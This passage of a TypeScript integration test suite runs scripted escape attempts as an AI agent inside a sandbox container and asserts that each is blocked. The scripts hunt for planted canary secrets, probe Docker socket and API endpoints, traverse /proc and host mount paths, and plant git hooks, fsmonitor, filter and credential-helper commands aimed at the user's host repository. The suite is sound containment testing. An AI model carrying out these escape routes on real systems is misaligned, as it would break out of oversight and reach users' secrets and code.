// The escape-attempt suite: real attacks, run AS THE AGENT (the sandbox's own non-root user, through
// `agent-sandbox exec`) inside real containers on the engine under test (DOCKER_HOST, see helpers.ts), each
// asserted to have failed. Every attempt goes into one table, printed at the end: "N attempts tried, N blocked".
//
// The image is the busybox+git test image plus `probe` (test/integration/escape-probe.c, compiled here with
// gcc -static), installed setuid root: it makes the system calls an escaping agent would and prints errno.
// Every agent script prints "ran:ATTACK" first and "done:ATTACK" last, and each attempt a line of its own, so a
// broken script cannot pass by doing nothing.
import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, rmSync, writeFileSync, promises as fs } from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { TestContext } from 'node:test';
import { Sandboxes } from '../../src/core/sandboxes';
import { sandboxUlimits } from '../../src/core/engine/ulimits';
import { cleanUp, cli, cliOk, docker, ENGINE_HOST, engineKind, git, makeRepo, REPO_ROOT, testImageContext, tomlWith, waitFor } from './helpers';

const PROBE_SOURCE = path.join(REPO_ROOT, 'test', 'integration', 'escape-probe.c');
/** Labels the containers this file makes itself (controls, the test host), so that only they are removed. */
const CONTROL_LABEL = 'dev.agent-sandboxes.escape-test';
const RUN_ID = randomBytes(4).toString('hex');

// ---------------------------------------------------------------------------------------------------------
// The table

interface Row {
  attack: string;
  attempt: string;
  blocked: boolean;
  detail: string;
}

const rows: Row[] = [];
const skipped: string[] = [];

/** The rows of one attack; `assertAllBlocked` fails the test with every attempt that got through. */
function tally(attack: string) {
  const mine: Row[] = [];
  return {
    record(attempt: string, blocked: boolean, detail = ''): void {
      const row = { attack, attempt, blocked, detail: detail.replace(/\s+/g, ' ').trim() };
      rows.push(row);
      mine.push(row);
    },
    assertAllBlocked(): void {
      assert.ok(mine.length > 0, `${attack}: no attempt was recorded`);
      const escaped = mine.filter((r) => !r.blocked).map((r) => `${r.attempt}: ${r.detail}`);
      assert.deepEqual(escaped, [], `${attack}: attempts that got through`);
    },
  };
}

function printTable(engine: string): void {
  const cut = (s: string, n: number) => (s.length > n ? `${s.slice(0, n - 3)}...` : s);
  const table = [['ATTACK', 'ATTEMPT', 'RESULT', 'DETAIL'], ...rows.map((r) => [r.attack, r.attempt, r.blocked ? 'blocked' : 'ESCAPED', cut(r.detail, 90)])];
  const widths = [0, 1, 2].map((i) => Math.max(...table.map((row) => row[i].length)));
  const lines = table.map((row) => row.map((cell, i) => (i < 3 ? cell.padEnd(widths[i]) : cell)).join('  ').trimEnd());
  const blocked = rows.filter((r) => r.blocked).length;
  console.log(
    [
      '',
      `Escape attempts, run as the agent on ${engine} (${ENGINE_HOST})`,
      lines[0],
      lines[0].replace(/[^ ]/g, '-'),
      ...lines.slice(1),
      ...skipped.map((s) => `(skipped: ${s})`),
      ...rows.filter((r) => !r.blocked).map((r) => `GOT THROUGH: ${r.attack}: ${r.attempt}: ${r.detail}`),
      `${rows.length} attempts tried, ${blocked} blocked`,
      '',
    ].join('\n'),
  );
}

// ---------------------------------------------------------------------------------------------------------
// The image: the test image, plus the probe, setuid root

let escapeContext: string | undefined;
/** Why the probe could not be built (no gcc, no static libc), for the tests that need it to skip with. */
let probeMissing: string | undefined;

function buildEscapeContext(): void {
  const dir = path.join(os.tmpdir(), `agent-sandboxes-escape-image-${process.pid}`);
  rmSync(dir, { recursive: true, force: true });
  cpSync(testImageContext(), dir, { recursive: true });
  try {
    execFileSync('gcc', ['-static', '-O2', '-o', path.join(dir, 'rootfs', 'bin', 'probe'), PROBE_SOURCE], { stdio: 'pipe' });
  } catch (error) {
    const e = error as NodeJS.ErrnoException & { stderr?: Buffer };
    probeMissing =
      e.code === 'ENOENT'
        ? 'gcc is not installed, so the static probe cannot be built (Debian: apt-get install gcc libc6-dev)'
        : `gcc -static could not build the probe: ${e.stderr?.toString().trim() ?? e.message}`;
  }
  const probeSteps = probeMissing ? '' : 'RUN ["/bin/busybox", "chmod", "4755", "/bin/probe"]\n';
  writeFileSync(
    path.join(dir, 'Dockerfile'),
    `FROM scratch\nCOPY rootfs/ /\nRUN ["/bin/busybox", "--install", "-s", "/bin"]\n${probeSteps}ENV PATH=/usr/bin:/bin\nCMD ["sh"]\n`,
  );
  escapeContext = dir;
}

/** Skips a test that needs the probe where it could not be built, saying why. */
function needsProbe(t: TestContext, attack: string): boolean {
  if (!probeMissing) return true;
  skipped.push(`${attack}: ${probeMissing}`);
  t.skip(probeMissing);
  return false;
}

interface Role {
  command: string;
  network?: 'none' | 'nat';
  memory?: string;
  pids?: number;
  cpus?: number;
}

/** sandbox.toml with these roles, each running its command in sh; network none unless a role says otherwise. */
function escapeToml(roles: Record<string, Role>): string {
  let toml = '[sandbox.container]\ndockerfile = ".sandbox/Dockerfile"\nnetwork = "none"\nmemory = "256m"\ncpus = 1\npids = 256\n';
  for (const [name, role] of Object.entries(roles)) {
    toml += `\n[agents.${name}]\ncommand = ["sh", "-c", ${JSON.stringify(role.command)}]\n`;
    if (role.network) toml += `network = "${role.network}"\n`;
    if (role.memory) toml += `memory = "${role.memory}"\n`;
    if (role.pids) toml += `pids = ${role.pids}\n`;
    if (role.cpus) toml += `cpus = ${role.cpus}\n`;
  }
  return toml;
}

const SLEEPER: Role = { command: 'sleep 600' };

/** A test repository (see makeRepo) whose .sandbox is the escape image's context. */
async function makeEscapeRepo(roles: Record<string, Role>, files: Record<string, string> = {}): Promise<string> {
  const repo = await makeRepo(escapeToml(roles), files);
  await fs.rm(path.join(repo, '.sandbox'), { recursive: true, force: true });
  await fs.cp(escapeContext!, path.join(repo, '.sandbox'), { recursive: true });
  git(repo, 'add', '-A');
  git(repo, 'commit', '-q', '--amend', '--no-edit');
  return repo;
}

async function up(repo: string, name: string, agent: string): Promise<void> {
  await cliOk(['up', name, '--agent', agent], { cwd: repo });
}

interface Listed {
  name: string;
  state: string;
  containerId: string;
  image: string;
  exitCode?: number;
  oomKilled?: boolean;
}

async function listed(repo: string, name: string): Promise<Listed> {
  const all = JSON.parse((await cliOk(['ls', '--json'], { cwd: repo })).stdout) as Listed[];
  const found = all.find((s) => s.name === name);
  assert.ok(found, `no sandbox ${name} in ls --json`);
  return found;
}

/** Runs a script as the agent, through `agent-sandbox exec`; stdout and stderr together. */
async function asAgent(repo: string, name: string, script: string, timeoutMs = 120_000): Promise<{ code: number; out: string }> {
  const result = await cli(['exec', name, '--', 'sh', '-c', script], { cwd: repo, timeoutMs });
  return { code: result.code, out: result.stdout + result.stderr };
}

/** The script really ran, start to end. */
function assertRan(out: string, attack: string): void {
  assert.match(out, new RegExp(`^ran:${attack}`, 'm'), `the ${attack} script did not start:\n${out}`);
  assert.match(out, new RegExp(`^done:${attack}`, 'm'), `the ${attack} script did not finish:\n${out}`);
}

/** The lines of an output between "== NAME" and the next "== " line. */
function section(out: string, name: string): string {
  const start = out.indexOf(`== ${name}\n`);
  assert.ok(start >= 0, `no section ${name} in:\n${out}`);
  const rest = out.slice(start + name.length + 4);
  const end = rest.search(/^== /m);
  return end < 0 ? rest : rest.slice(0, end);
}

/** The line of an attempt printed as "attempt NAME ...". */
function attemptLine(out: string, name: string): string {
  const line = out.split('\n').find((l) => l.startsWith(`attempt ${name} `) || l.startsWith(`attempt ${name}:`) || l.startsWith(`attempt [${name}]`));
  assert.ok(line, `the attempt ${name} did not run:\n${out}`);
  return line;
}

/** A shell function for the agent's scripts: `run 'CMD'` prints "attempt [CMD] rc=N first line of output". */
const RUN_FN = 'run() { out=$(sh -c "$1" 2>&1); rc=$?; echo "attempt [$1] rc=$rc $(echo "$out" | head -n 1)"; }';

function rcOf(line: string): number {
  const match = / rc=(\d+)/.exec(line);
  assert.ok(match, `no rc in ${line}`);
  return Number(match[1]);
}

/** A probe line "NAME=RESULT" (e.g. "mount-tmpfs=EPERM"). */
function probeResult(out: string, name: string): string {
  const match = new RegExp(`^${name}=(\\S+)$`, 'm').exec(out);
  assert.ok(match, `the probe printed no ${name}:\n${out}`);
  return match[1];
}

function controlContainers(): Promise<Array<{ Id: string }>> {
  return docker.listContainers({ all: true, filters: { label: [`${CONTROL_LABEL}=${RUN_ID}`] } });
}

/** Runs a container through raw dockerode (not through Agent Sandboxes) to completion; its output. */
async function runRaw(options: { Image: string; Cmd: string[]; User: string; HostConfig: Record<string, unknown> }): Promise<{ code: number; out: string }> {
  const container = await docker.createContainer({ ...options, Tty: true, Labels: { [CONTROL_LABEL]: RUN_ID }, HostConfig: { Ulimits: sandboxUlimits(), ...options.HostConfig } });
  try {
    await container.start();
    const { StatusCode } = (await container.wait()) as { StatusCode: number };
    const logs = (await container.logs({ stdout: true, stderr: true, follow: false })) as unknown as Buffer;
    return { code: StatusCode, out: logs.toString('utf8').replace(/\r/g, '') };
  } finally {
    await container.remove({ force: true }).catch(() => undefined);
  }
}

before(async () => {
  buildEscapeContext();
  // Built once, so that the tests' parallel `up`s find it made.
  const repo = await makeEscapeRepo({ engineer: SLEEPER });
  await cliOk(['build'], { cwd: repo, timeoutMs: 300_000 });
});

after(async () => {
  printTable(await engineKind().catch(() => 'an engine that does not answer'));
  for (const c of await controlContainers().catch(() => [])) await docker.getContainer(c.Id).remove({ force: true }).catch(() => undefined);
  await cleanUp();
  if (escapeContext) await fs.rm(escapeContext, { recursive: true, force: true });
  // helpers' testImageContext() made it for this process.
  await fs.rm(path.join(os.tmpdir(), `agent-sandboxes-test-image-${process.pid}`), { recursive: true, force: true });
});

// ---------------------------------------------------------------------------------------------------------
// Host state, as the user sees it

/** The user's files (bytes, kind, link target) outside .git, keyed by path. */
async function workingFiles(root: string): Promise<Map<string, string>> {
  const files = new Map<string, string>();
  const walk = async (dir: string) => {
    for (const entry of await fs.readdir(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      const rel = path.relative(root, full);
      if (rel === '.git') continue;
      if (entry.isDirectory()) {
        files.set(rel, 'dir');
        await walk(full);
      } else if (entry.isSymbolicLink()) files.set(rel, `link ${await fs.readlink(full)}`);
      else files.set(rel, `file ${createHash('sha256').update(await fs.readFile(full)).digest('hex')}`);
    }
  };
  await walk(root);
  return files;
}

/** Everything of the user's that no sandbox may change: files, index, HEAD, branches and tags. */
async function userState(repo: string): Promise<Map<string, string>> {
  const state = new Map<string, string>();
  for (const [file, what] of await workingFiles(repo)) state.set(`file ${file}`, what);
  state.set('index (bytes)', createHash('sha256').update(await fs.readFile(path.join(repo, '.git', 'index'))).digest('hex'));
  state.set('index (entries)', git(repo, 'ls-files', '--stage'));
  state.set('index (stat data)', git(repo, 'ls-files', '--debug'));
  state.set('HEAD', await fs.readFile(path.join(repo, '.git', 'HEAD'), 'utf8'));
  for (const line of git(repo, 'for-each-ref', '--format=%(refname) %(objectname)', 'refs/heads', 'refs/tags').split('\n')) {
    const [ref, id] = line.split(' ');
    if (!ref.startsWith('refs/heads/sandbox/')) state.set(ref, id);
  }
  return state;
}

/** Which entries' stat data in the index changed between two states, for the report. */
function statChanges(before: Map<string, string>, now: Map<string, string>): string {
  const entries = (state: Map<string, string>) => {
    const byPath = new Map<string, string>();
    let current = '';
    for (const line of (state.get('index (stat data)') ?? '').split('\n')) {
      if (!line.startsWith(' ')) current = line;
      else byPath.set(current, `${byPath.get(current) ?? ''}${line.trim()} `);
    }
    return byPath;
  };
  const [a, b] = [entries(before), entries(now)];
  const changed = [...new Set([...a.keys(), ...b.keys()])].filter((p) => a.get(p) !== b.get(p));
  return changed.length ? ` (stat data rewritten in the user's index for ${changed.join(', ')})` : '';
}

/** What differs between two states: the keys, with before and after where they are short. */
function differences(before: Map<string, string>, now: Map<string, string>): string[] {
  const keys = new Set([...before.keys(), ...now.keys()]);
  const show = (v: string | undefined) => (v === undefined ? '(none)' : v.length > 80 || v.includes('\n') ? `${v.length} bytes` : v.trim());
  return [...keys].filter((k) => before.get(k) !== now.get(k)).map((k) => `${k} (${show(before.get(k))} -> ${show(now.get(k))})`);
}

/** The host repository's .git/hooks (every file's bytes) and .git/config. */
async function hostGitFiles(repo: string): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  const hooks = path.join(repo, '.git', 'hooks');
  for (const name of (await fs.readdir(hooks).catch(() => [] as string[])).sort()) {
    out.set(`hooks/${name}`, createHash('sha256').update(await fs.readFile(path.join(hooks, name))).digest('hex'));
  }
  out.set('config', await fs.readFile(path.join(repo, '.git', 'config'), 'utf8'));
  return out;
}

/** git as the user runs it in their workspace: no hardening, their own config. */
function userGit(repo: string, ...args: string[]): Promise<{ code: number; out: string }> {
  return new Promise((resolve) =>
    execFile('git', args, { cwd: repo, encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 }, (error, stdout, stderr) =>
      resolve({ code: error ? ((error as { code?: number }).code ?? 1) : 0, out: stdout + stderr }),
    ),
  );
}


/** Each payload of hostileGitScript: the suffix of its marker file, and what it is. */
const HOSTILE_PAYLOADS: Array<[string, string]> = [
  ['direct', 'touch the marker host path itself'],
  ['hosthook', 'a hook written into the host .git/hooks'],
  ['hostconfig', 'core.fsmonitor written into the host .git/config'],
  ['fsmonitor', 'core.fsmonitor in its own git config'],
  ['hookspath', 'core.hooksPath to hooks it committed'],
  ['sshcommand', 'core.sshCommand'],
  ['alias', 'alias.* with ! commands'],
  ['pager', 'core.pager, pager.*'],
  ['extdiff', 'diff.external'],
  ['filter', '.gitattributes + filter.evil.clean/smudge'],
  ['textconv', '.gitattributes + diff.evil.textconv'],
  ['mergedriver', '.gitattributes + merge.evil.driver'],
  ['editor', 'core.editor, sequence.editor'],
  ['credential', 'credential.helper, core.askPass'],
  ['gpg', 'commit.gpgSign + gpg.program'],
  ['privatehook', 'every hook in its own git dir'],
  ['nested-filter', 'nested sub/.git (a gitlink): filter.clean'],
  ['nested-fsmonitor', 'nested sub/.git (a gitlink): core.fsmonitor'],
  ['nested-hook', 'nested sub/.git (a gitlink): every hook'],
  ['loose-nested-filter', 'untracked nested repo: filter.clean'],
  ['loose-nested-fsmonitor', 'untracked nested repo: core.fsmonitor'],
  ['loose-nested-hook', 'untracked nested repo: every hook'],
];

const GIT_HOOKS =
  'applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg post-commit pre-rebase post-checkout ' +
  'post-merge pre-push pre-receive update proc-receive post-receive post-update reference-transaction push-to-checkout pre-auto-gc post-rewrite ' +
  'sendemail-validate fsmonitor-watchman post-index-change p4-changelist p4-prepare-changelist p4-post-changelist p4-pre-submit';

/**
 * The agent's attack on the host's git: every payload, when run, appends the uid it runs as to `MARKER-<payload>`,
 * which on the host only host-side code can write (the agent's /tmp is its container's own). Payloads live under the folder
 * named after the sandbox, so two sandboxes' work can be synced into one workspace.
 */
function hostileGitScript(M: string): string {
  return `M='${M}'
D="$SANDBOX_NAME"
HOOKS='${GIT_HOOKS}'
cd /workspace || exit 1
echo "ran:host-git $D"
say() { echo "attempt $*"; }
hook() { printf '#!/bin/sh\\nid -u >> %s\\nexit 0\\n' "$2" > "$1" && chmod +x "$1"; }
if touch "$M-direct" 2>/dev/null; then say "direct: wrote (in the container's view)"; else say "direct: failed"; fi

# The host's .git, by every path in sight, and by the host path that mountinfo gives away.
HG=$(awk '$5 == "/run/agent-sandbox/host-objects" {print $4}' /proc/self/mountinfo); HG=\${HG%/objects}
echo "the host's .git per mountinfo: $HG"
for g in /run/agent-sandbox/host-objects/.. /run/agent-sandbox/git/../../.. /workspace/../.git /workspace/.git/.. "$HG" "/proc/1/root$HG" "/proc/self/root$HG" /proc/1/cwd/../.git; do
  if mkdir -p "$g/hooks" 2>/dev/null && hook "$g/hooks/post-commit" "$M-hosthook" 2>/dev/null && hook "$g/hooks/pre-commit" "$M-hosthook" 2>/dev/null; then say "host-hooks $g: wrote (in the container's view)"; else say "host-hooks $g: failed"; fi
  if git config --file "$g/config" core.fsmonitor "id -u >> $M-hostconfig" 2>/dev/null; then say "host-config $g: wrote (in the container's view)"; else say "host-config $g: failed"; fi
done

# Its own git dir: hooks and config that run commands.
G=/run/agent-sandbox/git
mkdir -p "$G/hooks" "$D/hooks"
for h in $HOOKS; do hook "$G/hooks/$h" "$M-privatehook"; hook "$D/hooks/$h" "$M-hookspath"; done
git config core.hooksPath "$D/hooks" &&
git config core.sshCommand "id -u >> $M-sshcommand; false" &&
git config alias.lg "!id -u >> $M-alias" && git config alias.review "!id -u >> $M-alias" &&
git config core.pager "id -u >> $M-pager; cat" && git config pager.log "id -u >> $M-pager; cat" && git config pager.diff "id -u >> $M-pager; cat" &&
git config diff.external "id -u >> $M-extdiff; true" &&
git config filter.evil.clean "id -u >> $M-filter; cat" && git config filter.evil.smudge "id -u >> $M-filter; cat" &&
git config diff.evil.textconv "id -u >> $M-textconv; cat" && git config merge.evil.driver "id -u >> $M-mergedriver; false" &&
git config core.editor "id -u >> $M-editor; true" && git config sequence.editor "id -u >> $M-editor; true" &&
git config credential.helper "!id -u >> $M-credential" && git config core.askPass "id -u >> $M-credential" &&
  say "own-config: set" || say "own-config: failed"

# Committed: attributes naming those drivers, the hooks, and a nested repository (a gitlink) with its own
# config and hooks, its file changed since its index was written so that any git looking at it must rehash it.
mkdir -p "$D"
echo "* filter=evil diff=evil merge=evil" > "$D/.gitattributes"
echo "the agent's data in $D" > "$D/data.txt"
nested() {
  mkdir -p "$1" && ( cd "$1" && git init -q . && echo one > a && echo "* filter=nested diff=nested" > .gitattributes && git add -A &&
    git -c user.name=agent -c user.email=agent@example.invalid commit -q -m nested &&
    git config filter.nested.clean "id -u >> $2-filter; cat" && git config filter.nested.smudge "id -u >> $2-filter; cat" &&
    git config diff.nested.textconv "id -u >> $2-filter; cat" && git config core.fsmonitor "id -u >> $2-fsmonitor; false" &&
    mkdir -p .git/hooks && for h in $HOOKS; do hook ".git/hooks/$h" "$2-hook"; done )
}
nested "$D/sub" "$M-nested" && say "nested: made" || say "nested: failed"
nested "$D/loose-sub" "$M-loose-nested" && say "loose-nested: made (left untracked)" || say "loose-nested: failed"
git add "$D/.gitattributes" "$D/data.txt" "$D/hooks" "$D/sub" 2>/dev/null && git commit -q -m "agent: payloads in $D" && say "commit: made" || say "commit: failed"
# Keeps the nested repositories' files looking touched (same size, new mtime) for as long as the sandbox runs,
# so that any git that looks at them must read them again, through their filter.
( while :; do touch "$D/sub/a" "$D/sub/.gitattributes" "$D/loose-sub/a" "$D/loose-sub/.gitattributes"; sleep 0.2; done ) </dev/null >/dev/null 2>&1 &

# Other branches and tags: its own git dir only has them; and every path it could push to.
B=$(git rev-parse HEAD)
git update-ref refs/heads/main "$B" && say "update-ref-main: done (in its own git dir)" || say "update-ref-main: failed"
git branch -f main "$B" 2>/dev/null && say "branch-main: done (in its own git dir)" || say "branch-main: failed"
git tag -f v1 "$B" >/dev/null 2>&1 && say "tag-v1: done (in its own git dir)" || say "tag-v1: failed"
git tag agent-tag "$B" 2>/dev/null && say "tag-new: done (in its own git dir)" || say "tag-new: failed"
for target in /run/agent-sandbox/host-objects/.. "$HG" "/proc/1/root$HG" "file://$HG" /workspace/..; do
  git push -q -f "$target" "$B:refs/heads/main" "$B:refs/tags/v1" "$B:refs/tags/agent-tag" >/dev/null 2>&1 && say "push $target: pushed (in the container's view)" || say "push $target: failed"
done

# Left uncommitted for the capture, and config that breaks its own git last.
echo "more, uncommitted" >> "$D/data.txt"
echo "new, untracked" > "$D/untracked.txt"
git config core.fsmonitor "id -u >> $M-fsmonitor; false"
git config commit.gpgSign true
git config gpg.program "id -u >> $M-gpg; false"
echo done:host-git`;
}

// ---------------------------------------------------------------------------------------------------------

describe('escape attempts, run as the agent', () => {
  test('1. host home secret: canaries in ~/.ssh, /tmp, beside the repository and in the environment stay out of reach', async () => {
    const t = tally('1. host secret');
    const id = randomBytes(6).toString('hex');
    const name = `agent-sandboxes-canary-${id}`;
    const secrets = { home: randomBytes(24).toString('hex'), tmp: randomBytes(24).toString('hex'), sibling: randomBytes(24).toString('hex'), env: randomBytes(24).toString('hex') };
    const envName = `AGENT_SANDBOXES_CANARY_${id.toUpperCase()}`;
    const sshDir = path.join(os.homedir(), '.ssh');
    const madeSsh = !existsSync(sshDir);
    const planted: string[] = [];
    const repo = await makeEscapeRepo({ engineer: SLEEPER });
    try {
      // Readable by anyone where the folder lets them: only the sandbox, not file modes, keeps them away.
      if (madeSsh) mkdirSync(sshDir, { mode: 0o755 });
      const sibling = path.join(path.dirname(repo), name);
      for (const [file, secret] of [
        [path.join(sshDir, name), secrets.home],
        [path.join(os.tmpdir(), name), secrets.tmp],
        [sibling, secrets.sibling],
      ]) {
        await fs.writeFile(file, `${secret}\n`, { mode: 0o644 });
        planted.push(file);
      }
      await fs.chmod(path.dirname(repo), 0o755);
      process.env[envName] = secrets.env;

      await up(repo, 'secret', 'engineer');
      const { out } = await asAgent(
        repo,
        'secret',
        `echo ran:host-secret
P=agent-sandboxes-canary
show() { for f in "$@"; do [ -e "$f" ] && { echo "found $f"; cat "$f"; }; done; }
echo "== likely-paths"
show /root/.ssh/$P* /home/*/.ssh/$P* "$HOME"/.ssh/$P* /tmp/$P* /var/tmp/$P* /workspace/../root/.ssh/$P* /workspace/../tmp/$P* \\
  /proc/1/root/root/.ssh/$P* /proc/1/root/tmp/$P* /proc/1/cwd/../root/.ssh/$P* /proc/self/root/root/.ssh/$P*
echo "== find-xdev"
timeout 30 find / -xdev -name "$P*" 2>/dev/null | while read -r f; do show "$f"; done
echo "== find-all"
timeout 30 find / \\( -path /proc -o -path /sys \\) -prune -o -name "$P*" -print 2>/dev/null | while read -r f; do show "$f"; done
echo "== beside-mounts"
W=$(awk '$5 == "/workspace" {print $4}' /proc/self/mountinfo)
R=\${W%/.git/agent-sandboxes/worktrees/*}
echo "the repository on the host, per mountinfo: $R"
show "$R"/../$P* /proc/1/root"$R"/../$P* /workspace/../../../../../$P* /run/agent-sandbox/host-objects/../../../$P*
awk '{print $4}' /proc/self/mountinfo | sort -u | while read -r m; do show "$m"/../$P* "$m"/../../$P* "$m"/../../../$P*; done
echo "== environ"
for e in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$e" 2>/dev/null; done | grep -i canary
env | grep -i canary
echo "== end"
echo done:host-secret`,
      );
      assertRan(out, 'host-secret');
      const check = (sectionName: string, attempt: string) => {
        const text = section(out, sectionName);
        const leaked = Object.entries(secrets).filter(([, s]) => text.includes(s)).map(([k]) => k);
        const found = text.split('\n').filter((l) => l.startsWith('found '));
        t.record(attempt, leaked.length === 0 && found.length === 0, leaked.length || found.length ? `leaked ${leaked.join(', ')}; ${found.join(', ')}` : 'nothing found');
      };
      check('likely-paths', 'cat ~/.ssh, /tmp, /proc/1/root, /workspace/.. for the canary');
      check('find-xdev', 'find / -xdev -name the canary');
      check('find-all', 'find / (every mount but /proc, /sys) -name the canary');
      check('beside-mounts', "beside every mount's host source (the repo's parent)");
      check('environ', "the test process's canary env var in /proc/*/environ, env");
      const anywhere = Object.entries(secrets).filter(([, s]) => out.includes(s)).map(([k]) => k);
      t.record('any canary content anywhere in its output', anywhere.length === 0, anywhere.length ? `leaked: ${anywhere.join(', ')}` : `${out.length} bytes of output, no canary`);
    } finally {
      delete process.env[envName];
      for (const file of planted) await fs.rm(file, { force: true });
      if (madeSsh) await fs.rmdir(sshDir).catch(() => undefined);
    }
    t.assertAllBlocked();
  });

  test('2. engine socket: no unix socket of the engine in sight, no API on the gateway', async (t) => {
    if (!needsProbe(t, '2. engine socket')) return;
    const rowsOf = tally('2. engine socket');
    const repo = await makeEscapeRepo({ online: { ...SLEEPER, network: 'nat' } });
    await up(repo, 'socket', 'online');
    const known = ['/var/run/docker.sock', '/run/docker.sock', '/run/podman/podman.sock', '/var/run/podman/podman.sock', '/run/containerd/containerd.sock', '/run/user/0/podman/podman.sock'];
    const { out } = await asAgent(
      repo,
      'socket',
      `echo ran:engine-socket
echo "== find-sockets"
timeout 60 find / \\( -path /proc -o -path /sys \\) -prune -o -type s -print 2>/dev/null
echo "== unix"
for s in ${known.join(' ')} /run/user/*/podman/podman.sock $(timeout 60 find / \\( -path /proc -o -path /sys \\) -prune -o -type s -print 2>/dev/null); do probe unix "$s"; done
echo "== abstract"
awk 'NR > 1 && $8 ~ /^@/ {print $8}' /proc/net/unix
echo "== tcp"
GW=$(ip route 2>/dev/null | awk '/^default/ {print $3; exit}')
echo "gateway=$GW"
for p in 2375 2376; do probe tcp "$GW" $p 3000; probe tcp 127.0.0.1 $p 1000; done
echo "== control"
nc -l -p 23750 </dev/null >/dev/null 2>&1 &
sleep 0.5
probe tcp 127.0.0.1 23750 2000
echo done:engine-socket`,
    );
    assertRan(out, 'engine-socket');
    const sockets = section(out, 'find-sockets').split('\n').filter((l) => l.startsWith('/'));
    rowsOf.record('find / -type s: any unix socket', sockets.length === 0, sockets.length ? sockets.join(', ') : 'none found');
    const unix = section(out, 'unix');
    for (const socket of known) {
      const line = new RegExp(`^unix ${socket.replace(/[.]/g, '\\.')} (\\S+)`, 'm').exec(unix);
      assert.ok(line, `no probe of ${socket}:\n${out}`);
      rowsOf.record(`connect to ${socket}`, line[1] !== 'open', line[1]);
    }
    const others = unix.split('\n').filter((l) => l.startsWith('unix ') && !known.some((k) => l.startsWith(`unix ${k} `)));
    rowsOf.record('connect to any other socket found', !others.some((l) => / open$/.test(l)), others.length ? others.join('; ') : 'none to try');
    const abstract = section(out, 'abstract').split('\n').filter(Boolean);
    rowsOf.record("the host's abstract unix sockets (containerd, engine)", !abstract.some((s) => /containerd|docker|podman|libpod|conmon/.test(s)), abstract.length ? abstract.join(', ') : 'none visible');
    const tcp = section(out, 'tcp');
    const gateway = /^gateway=(\S+)$/m.exec(tcp)?.[1];
    assert.ok(gateway, `the nat sandbox found no default gateway:\n${out}`);
    for (const target of [`${gateway}:2375`, `${gateway}:2376`, '127.0.0.1:2375', '127.0.0.1:2376']) {
      const line = new RegExp(`^tcp ${target.replace(/[.]/g, '\\.')} (\\S+)`, 'm').exec(tcp);
      assert.ok(line, `no probe of ${target}:\n${out}`);
      rowsOf.record(`engine API over TCP at ${target.startsWith('127.') ? target : `the gateway ${target}`}`, line[1] !== 'open', line[1]);
    }
    // Controls: the probe connects where something listens (in the container), and to the engine's socket from the host.
    assert.match(section(out, 'control'), /^tcp 127\.0\.0\.1:23750 open$/m, 'control: the probe reaches a listener in the container');
    if (ENGINE_HOST.startsWith('unix://')) {
      const host = execFileSync(path.join(escapeContext!, 'rootfs', 'bin', 'probe'), ['unix', ENGINE_HOST.slice('unix://'.length)], { encoding: 'utf8' });
      assert.match(host, /open\nreply: HTTP\/1\.[01] 200/, 'control: the probe reaches the engine from the host');
    }
    rowsOf.assertAllBlocked();
  });

  test("3. the user's working tree: nothing outside /workspace is written, not even through host-side operations", async () => {
    const t = tally("3. user's tree");
    const repo = await makeEscapeRepo({ engineer: SLEEPER }, { 'README.md': "the user's readme\n", 'src/app.txt': 'app\n' });
    const before = await userState(repo);
    await Promise.all([up(repo, 'tree', 'engineer'), up(repo, 'gitlink', 'engineer')]);
    const attempts = [
      ['parent-readme', 'echo pwned > /workspace/../README.md'],
      ['parent-new-file', 'echo pwned > /workspace/../pwned.txt'],
      ['four-up', 'echo pwned > /workspace/../../../../README.md'],
      ['gitfile-target', 'd=$(sed -n "s/^gitdir: //p" /workspace/.git); echo pwned > "$d/../../../../../README.md"'],
      ['host-path', 'echo pwned > "$R/README.md"'],
      ['proc-root', 'echo pwned > "/proc/1/root$R/README.md"'],
      ['host-index', 'echo pwned > "$R/.git/index"'],
      ['gitfile-rewrite', 'echo "gitdir: $R/.git" > /workspace/.git'],
      ['gitfile-remove', 'rm -f /workspace/.git'],
      ['gitfile-move', 'mv /workspace/.git /workspace/moved-git'],
      ['objects-new-file', 'touch /run/agent-sandbox/host-objects/pwned'],
      ['objects-new-dir', 'mkdir /run/agent-sandbox/host-objects/ff'],
      ['objects-overwrite', 'for o in /run/agent-sandbox/host-objects/??/*; do echo pwned > "$o" || exit 1; done'],
      ['objects-chmod', 'chmod -R a+w /run/agent-sandbox/host-objects'],
      ['objects-alternates', 'echo /tmp > /run/agent-sandbox/host-objects/info/alternates'],
      ['objects-pack', 'cp /run/agent-sandbox/git/index /run/agent-sandbox/host-objects/pack/pack-pwned.pack'],
    ];
    // A nested repository whose .git file names the host's .git (four levels up from the worktree, on the host),
    // holding copies of the user's files, committed as a gitlink: host-side git that recurses into submodules
    // would run in it with the user's .git.
    const [{ out }, nested] = await Promise.all([
      asAgent(
        repo,
        'tree',
        `echo ran:working-tree
W=$(awk '$5 == "/workspace" {print $4}' /proc/self/mountinfo)
R=\${W%/.git/agent-sandboxes/worktrees/*}
echo "the repository on the host, per mountinfo: $R"
try() { if (eval "$2") 2>/dev/null; then echo "attempt $1: wrote (in the container's view)"; else echo "attempt $1: failed"; fi; }
${attempts.map(([name, command]) => `try ${name} '${command}'`).join('\n')}
# For host-side tools that would follow them: links to where the user's files lie on the host (the worktree
# is .git/agent-sandboxes/worktrees/NAME there), committed, and written through.
ln -s ../../../../README.md link-to-readme && ln -s "$R" link-to-repo && ln -s ../../../../src link-to-src &&
  git add link-to-readme link-to-repo link-to-src && git commit -q -m "agent: links" && echo "attempt links: committed" || echo "attempt links: failed"
echo pwned > link-to-readme 2>/dev/null; echo pwned > link-to-src/app.txt 2>/dev/null
echo "uncommitted" > loose.txt
echo done:working-tree`,
      ),
      asAgent(
        repo,
        'gitlink',
        `echo ran:gitlink
mkdir -p hostgit/src && echo 'gitdir: ../../../..' > hostgit/.git && cp README.md sandbox.toml hostgit/ && cp src/app.txt hostgit/src/ &&
  git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),hostgit" &&
